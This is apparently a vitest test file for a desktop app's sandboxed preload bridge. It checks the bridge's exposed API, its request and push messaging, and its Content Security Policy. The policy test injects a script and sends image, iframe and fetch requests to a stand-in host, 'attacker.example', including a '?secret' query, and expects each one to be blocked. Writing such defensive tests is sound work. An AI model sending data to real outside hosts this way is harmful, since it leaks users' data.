import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HyperagentBridge, PushMessage } from '#contract/requests.ts';
import { Desktop } from '../fakes/electron/desktop.ts';
import { installPreload, PAGE_URL } from '../fakes/electron/preload-page.ts';
import { chromiumNote, chromiumPath } from '../setup/chromium.ts';
import { useChromium } from '../setup/use-window.ts';

declare global {
  var hyperagent: HyperagentBridge;
}

/** The built preload and the built window in real Chromium, over the built desktop app. */
describe.skipIf(chromiumPath === null)(`the preload${chromiumNote}`, () => {
  let dataDir: string;
  let desktop: Desktop;
  const chromium = useChromium();
  let page: Page;

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'hyperagent-preload-'));
    desktop = await new Desktop({ dataDir }).opened();
    page = await chromium.browser.newPage();
    await installPreload(page, desktop);
    await page.goto(PAGE_URL);
  });

  afterAll(async () => {
    await desktop?.quit();
    rmSync(dataDir, { recursive: true, force: true });
  });

  it('is one file, which a sandboxed preload must be', () => {
    expect(readdirSync(join(import.meta.dirname, '../../out/preload'))).toEqual(['index.cjs']);
  });

  it('exposes request, cancel and onEvent, and nothing else', async () => {
    const seen = await page.evaluate(() => ({
      exposed: globalThis.standInExposed,
      listened: globalThis.standInListened,
      members: Object.entries(globalThis.hyperagent).map(([name, value]) => [name, typeof value]),
      node: [typeof globalThis.require, typeof globalThis.process],
    }));

    expect(seen).toEqual({
      exposed: ['hyperagent'],
      listened: ['hyperagent:push'],
      members: [
        ['request', 'function'],
        ['cancel', 'function'],
        ['onEvent', 'function'],
      ],
      node: ['undefined', 'undefined'],
    });
  });

  it('carries requests to main and results back', async () => {
    const info = await page.evaluate(() => globalThis.hyperagent.request('app.info', {}));
    const cancelled = await page.evaluate(() => globalThis.hyperagent.cancel('run_none'));

    expect(info).toMatchObject({ ok: true, data: { entryPoint: 'desktop' } });
    expect(cancelled).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } });
  });

  it('calls back for pushes until it is unsubscribed', async () => {
    const pushes = await page.evaluate(async () => {
      const received: PushMessage[] = [];
      // Others come by themselves, such as the state of the library when the app has just begun.
      const stop = globalThis.hyperagent.onEvent((message) => {
        if (message.kind === 'settings_changed') received.push(message);
      });
      const update = (appearance: string) =>
        globalThis.hyperagent.request('settings.update', { changes: { appearance } });
      const arrived = async (count: number): Promise<void> => {
        while (received.length < count) await new Promise((r) => setTimeout(r, 5));
      };
      await update('dark');
      await arrived(1);
      stop();
      await update('light');
      await new Promise((resolve) => setTimeout(resolve, 100));
      return received;
    });

    expect(pushes).toMatchObject([{ kind: 'settings_changed', settings: { appearance: 'dark' } }]);
  });

  it('lives with the policy of the page: no script but its own, nothing from elsewhere', async () => {
    // As text, for what runs in the page has other types than this file.
    const violations = await page.evaluate(`(async () => {
      const seen = [];
      document.addEventListener('securitypolicyviolation', (event) => {
        seen.push(event.effectiveDirective);
      });
      const script = document.createElement('script');
      script.textContent = 'globalThis.injected = true';
      document.head.append(script);
      new Image().src = 'https://attacker.example/?secret';
      const frame = document.createElement('iframe');
      frame.src = 'https://attacker.example/';
      document.body.append(frame);
      await fetch('https://attacker.example/').catch(() => undefined);
      while (seen.length < 4) await new Promise((resolve) => setTimeout(resolve, 5));
      return { seen: seen.sort(), injected: 'injected' in globalThis };
    })()`);

    expect(violations).toEqual({
      seen: ['connect-src', 'frame-src', 'img-src', 'script-src-elem'],
      injected: false,
    });
  });
});
